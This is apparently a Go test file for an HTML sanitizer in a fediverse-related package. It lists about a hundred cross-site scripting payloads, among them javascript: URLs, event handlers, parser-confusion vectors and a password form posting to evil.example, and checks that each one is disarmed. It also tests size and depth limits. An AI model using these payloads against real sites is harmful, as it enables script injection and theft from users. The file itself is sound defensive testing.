package html_test

import (
	"fmt"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/fedihook/fedihook/activity/html"
)

// attacks are what strangers write to run code in a reader's browser, or to break out of their place in the page.
var attacks = []string{
	// schemes
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href=javascript:alert(1)>x</a>`,
	`<a href="&#106;avascript:alert(1)">x</a>`, `<a href="&#x6A&#x61vascript:alert(1)">x</a>`, `<a href="javascript&colon;alert(1)">x</a>`,
	`<a href="jav&Tab;ascript:alert(1)">x</a>`, `<a href="jav&NewLine;ascript:alert(1)">x</a>`, "<a href=\"java\x00script:alert(1)\">x</a>",
	"<a href=\"\x01javascript:alert(1)\">x</a>", "<a href=\" \t\r\njavascript:alert(1)\">x</a>", "<a href=\"\u00a0javascript:alert(1)\">x</a>",
	`<a href="&#14;javascript:alert(1)">x</a>`, `<a href="javascript://a.example/%0aalert(1)">x</a>`, `<a href="javascript&#0058;alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`, `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, `<a href="blob:https://a.example/1">x</a>`,
	`<a href="view-source:javascript:alert(1)">x</a>`, `<a href="feed:javascript:alert(1)">x</a>`, `<a href="https://a.example/" href="javascript:alert(1)">x</a>`,
	`<a href="javascript:alert(1)" href="https://a.example/">x</a>`, `<a xlink:href="javascript:alert(1)">x</a>`, `<a href="ſcript:x">x</a>`,
	// attributes
	`<p onclick="alert(1)">x</p>`, `<p/onclick=alert(1)>x</p>`, `<p ONCLICK = alert(1) >x</p>`, "<p\x0conclick=alert(1)>x</p>", `<span style="background:url(javascript:alert(1))">x</span>`,
	`<a href="https://a.example/" onmouseover="alert(1)" style="position:fixed;inset:0" id="x" name="y" ping="https://evil.example/" download>x</a>`,
	`<p class="h-x&quot; onclick=&quot;alert(1)">x</p>`, `<p class='u-"><script>alert(1)</script>'>x</p>`, `<p lang='en" onclick="alert(1)'>x</p>`, `<ol start='1" onclick="x'><li value='1 onclick=x'>x</ol>`,
	`<span translate='no" onclick="x'>x</span>`, `<a href='https://a.example/"onclick="alert(1)'>x</a>`, "<a href=\"https://a.example/`onclick=alert(1)\">x</a>", `<a href="https://a.example/<script>">x</a>`,
	`<p class="modal fixed admin">x</p>`, `<a href="https://a.example/" target="_top" rel="opener me">x</a>`,
	// elements
	`<script>alert(1)</script>`, `<ScRiPt/src=//evil.example/x>`, `<script`, `<script>`, `<<script>alert(1)//<</script>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, "<script\x00>alert(1)</script>", `<ſcript>alert(1)</ſcript>`,
	`<img src=x onerror=alert(1)>`, `<img src="x:" alt="<script>">`, `<image src=x onerror=alert(1)>`, `<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data="x"><embed src="x"></object>`,
	`<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`, `<body onload=alert(1)>`, `<html manifest=x>`, `<base href="https://evil.example/">`, `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<link rel=stylesheet href=//evil.example>`,
	`<style>*{display:none}</style>`, `<style><img src="</style><img src=x onerror=alert(1)//">`, `<form action="https://evil.example/"><input name=password><button formaction="javascript:alert(1)">x</button></form>`,
	`<form><form><div></form><form>x`, `<form id=a></form><button form=a>`, `<details open ontoggle=alert(1)>x</details>`, `<marquee onstart=alert(1)>x</marquee>`, `<isindex action=javascript:alert(1)>`, `<dialog open>x</dialog>`, `<x-y onclick=alert(1)>x</x-y>`,
	`<svg onload=alert(1)>`, `<svg/onload=alert(1)//`, `<svg><script>alert(1)</script></svg>x`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><animate onbegin=alert(1)>`, `<svg><use href="data:image/svg+xml,x#x"/></svg>`,
	// what a second parser reads otherwise
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<noscript><style></noscript><img src=x onerror=alert(1)></style>`, `<template><p></template><script>alert(1)</script>`, `<template><b><template></template><img src=x onerror=alert(1)>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`, `<math><semantics><annotation encoding="application/x-tex"><img src=x onerror=alert(1)>&lt;script&gt;</annotation></semantics></math>`,
	`<math><annotation encoding="application/x-tex">$<style></annotation></math><img src=x onerror=alert(1)>`, `<math href="javascript:alert(1)"><mi>x</mi></math>`, `<math><style><img src=x onerror=alert(1)></style></math>`,
	`<textarea><img src=x onerror=alert(1)></textarea>`, `</textarea><img src=x onerror=alert(1)>`, `<title></title><img src=x onerror=alert(1)>`, `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`, `<plaintext><b>x`, `<noembed><img src=x></noembed>`, `<select><style></select><img src=x onerror=alert(1)></style>`,
	`<table><tr><td><p></table><script>alert(1)</script>`, `<table><a href="https://a.example/">x</table>`, `<!--><img src=x onerror=alert(1)>-->`, `<!-- --!><img src=x onerror=alert(1)> -->`, `<![CDATA[<img src=x onerror=alert(1)>]]>`, `<!DOCTYPE x [<!ENTITY y "<script>">]>&y;`, `<?php echo 1 ?><?x <img src=x>?>`, `</ <img src=x onerror=alert(1)>>`, `</p onclick=alert(1)>x`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&amp;lt;script&amp;gt;`, "\u003cscript\u003ealert(1)", `<p>&#60;img src=x onerror=alert(1)&#62;`, "\xc0\xbcscript\xc0\xbe", "<\u2028script>", "+ADw-script+AD4-",
	// what would not stay in its place
	`</div></div></body><p>x`, `<b><i><u><a href="https://a.example/"><blockquote><ul><li>`, `<p><b></p><p><i></p>x`, `<a href="https://a.example/"><p><a href="https://b.example/"><ul><a href="https://c.example/">x`, `<li><li></ul><li>`, `<ul><li><b></ul></b>x`,
	`<rt><ruby><rt><rp><ruby></rt>`, `<pre><p><pre></p></pre>`, `<h1><h2><p></h1>x</p>`, `<h1><ul><li></h1>x`, `<b><p></b>x</p>y`, `<em><h3></em><blockquote></h3>`,
}

func TestAttacksAreDisarmed(t *testing.T) {
	t.Parallel()
	for _, in := range attacks {
		for _, around := range []string{"%s", "<p>a %s b</p>", `<a href="https://a.example/">%s</a>`, "<ul><li><pre>%s", "<h1>%s</h2>", "&lt;%s&gt;", "<math>%s</math>"} {
			judge(t, new(html.Policy), fmt.Sprintf(around, in))
		}
		if got := strings.ToLower(html.Sanitize(in)); strings.Contains(got, "<script") || strings.Contains(got, "<img") || strings.Contains(got, `href="j`) {
			t.Errorf("Sanitize(%q) = %q", in, got)
		}
	}
}

// Each pattern is repeated up to the limit. What costs more with each tag that came before it takes minutes for one of these.
// What is quadratic in any of these takes hours. BenchmarkHostile has the figures.
func TestHostileInputIsBounded(t *testing.T) {
	t.Parallel()
	for _, unit := range []string{
		"<b>", "<b><p>", "<ul><li>", "</a><b>", `<a href="magnet:">x</a>`, "<ruby><rt>", "<svg>", "<object></iframe>", "<math><annotation encoding=text/plain>x",
		"<div>", "<!--", "<a ", "<p class=h-x ", "&nGt;", "<blockquote>x<br>", "<pre>\n\n", "<", "a\x00", `<p class="h-x ` + strings.Repeat("u-y ", 1000) + `">`,
	} {
		sanitizeRepeated(t, new(html.Policy), unit)
	}
}

func TestRepeatedInputIsBounded(t *testing.T) {
	t.Parallel()
	p := &html.Policy{MaxSize: 8 << 10}
	for _, unit := range append([]string{
		"<p>", "<blockquote>", `<a href="https://a.example/">`, "<a>", "<h1>", "</b>", "</p>", "<math>", "<template>", "<table><tr><td>", "<font><p>", "</", "<!", "<!-->", "<![CDATA[", `<p a="`, "&", "&#", "&lt;",
		"\"", "'", "\xff", "\x00", "a\xff", "\n", "a\n", "<br>", "<li>", "<ol><li>x", `<p class="h-a h-b">`, `<script>`, `<script>x</script>`, "<plaintext>", "<p lang=en>", "<textarea>", "<i>x</i>", "𝕏", "a&#13;b\r\n",
	}, attacks...) {
		sanitizeRepeated(t, p, unit)
	}
}

func sanitizeRepeated(t *testing.T, p *html.Policy, unit string) {
	t.Helper()
	limit := limitOf(p)
	in := strings.Repeat(unit, limit/len(unit)+1)
	out, text := p.Sanitize(in), p.Text(in)
	if len(out) > limit || len(text) > limit || !utf8.ValidString(out) || !utf8.ValidString(text) {
		t.Errorf("%q repeated: %d bytes of HTML, %d of text", unit, len(out), len(text))
	}
	if again := p.Sanitize(out); again != out {
		t.Errorf("%q repeated is not stable: %d bytes, then %d", unit, len(out), len(again))
	}
}

func TestLimitsCutBetweenCharacters(t *testing.T) {
	t.Parallel()
	in := `<p>Grüße &amp; <b>“quotes”</b> <a href="https://a.example/x">link</a></p><ul><li>eins<li>zwei</ul><pre>a  b</pre>😀`
	for size := 1; size < 400; size++ {
		judge(t, &html.Policy{MaxSize: size}, in)
		judge(t, &html.Policy{MaxSize: size}, strings.Repeat(`"<br>`, size/5))
		judge(t, &html.Policy{MaxSize: size}, strings.Repeat(`<blockquote>`, 5)+strings.Repeat(`é<br>`, size/6))
	}
	for _, c := range []struct {
		size           int
		in, html, text string
	}{
		{13, "<p>grüß</p>", "<p>grüß</p>", "grüß"},
		{12, "<p>grüß</p>", "<p>grü</p>", "grüß"}, // the end of the paragraph needs its four bytes
		{8, "<p>grüß</p>", "<p>g</p>", "grü"},
		{6, "<p>grüß</p>", "", "gr"},
		{7, "ab &lt;", "ab &lt;", "ab <"},
		{6, "ab &lt;", "ab ", "ab"}, // half an entity is nothing
		{6, "ab&c d", "ab", "ab&c d"},
		{7, "ab<b>c</b>", "ab", "abc"},
		{9, `"""`, "&#34;", `"""`},
		{40, `<a href="https://a.example/">a</a>`, "", "a"},
		{5, "<ul><li>ab", "", ""},
		{11, "<ul><li>abcdefgh", "<ul></ul>", "- abc"},
	} {
		p := &html.Policy{MaxSize: c.size}
		if got := p.Sanitize(c.in); got != c.html {
			t.Errorf("%d bytes of %q: HTML %q, want %q", c.size, c.in, got, c.html)
		}
		if got := p.Text(c.in); got != c.text {
			t.Errorf("%d bytes of %q: text %q, want %q", c.size, c.in, got, c.text)
		}
	}
}

func TestDeepElementsAreDroppedAndTheirTextIsKept(t *testing.T) {
	t.Parallel()
	p := &html.Policy{MaxDepth: 3}
	in := `<blockquote>1<blockquote>2<blockquote>3<blockquote>4<p>5</p><h1>6</h1></blockquote></blockquote></blockquote></blockquote>`
	want := `<blockquote>1<blockquote>2<blockquote>3 4 5 6</blockquote></blockquote></blockquote>`
	if got := p.Sanitize(in); got != want {
		t.Errorf("got  %q\nwant %q", got, want)
	}
	judge(t, p, in)
	for _, depth := range []int{1, 2, 5, 64} {
		for _, a := range attacks {
			judge(t, &html.Policy{MaxDepth: depth}, a)
		}
	}
}
